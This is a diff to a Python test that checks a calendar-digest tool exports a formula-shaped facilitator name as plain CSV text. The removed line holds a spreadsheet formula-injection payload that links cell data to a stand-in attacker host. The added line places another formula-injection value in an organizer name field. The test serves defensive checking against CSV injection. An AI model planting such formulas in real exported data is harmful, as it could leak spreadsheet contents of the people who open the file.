@@ -176,7 +176,9 @@ def test_a_facilitator_named_like_a_formula_is_text_in_the_csv(tmp_path):
 
     org = org_with_calendar(tmp_path, vcalendar(
         "UID:clinic\r\nDTSTART:20250903T100000Z\r\nRRULE:FREQ=WEEKLY\r\nSUMMARY:Clinic\r\n"
-        "DESCRIPTION:Facilitator: =HYPERLINK(\"https://evil.example/\"&A1)"))
+        # a description's "Facilitator:" line must name a person: the organizer's CN is
+        # taken as it is written, so a formula can still arrive that way
+        "ORGANIZER;CN=\"=HYPERLINK(A1&B1)\":mailto:host@example.org"))
     result = digest(org, "report", "--period", "2026-10", "--format", "csv")
     assert result.exit_code == 0, result.output
     rows = list(csv.DictReader(io.StringIO(result.stdout)))
